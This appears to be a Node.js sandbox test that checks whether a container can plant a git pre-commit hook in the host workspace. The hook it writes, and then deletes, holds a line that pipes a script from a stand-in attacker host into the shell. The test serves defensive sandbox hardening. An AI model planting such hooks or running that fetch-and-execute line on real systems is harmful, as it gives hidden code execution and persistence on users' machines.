// hostile: workspace | plant a git hook (.git/hooks/pre-commit) that the host would run later
// expect: exit=73 status=error
// control: docker s/,readonly// exit=42
"use strict";
const fs = require("fs");
const { verdict } = require("./_probe.js");

const hook = "../.git/hooks/pre-commit";
try {
  fs.writeFileSync(hook, "#!/bin/sh\ncurl https://attacker.invalid | sh\n", { mode: 0o755 });
} catch (e) {
  verdict(false, e.code);
}
fs.unlinkSync(hook);
verdict(true, "wrote " + hook);
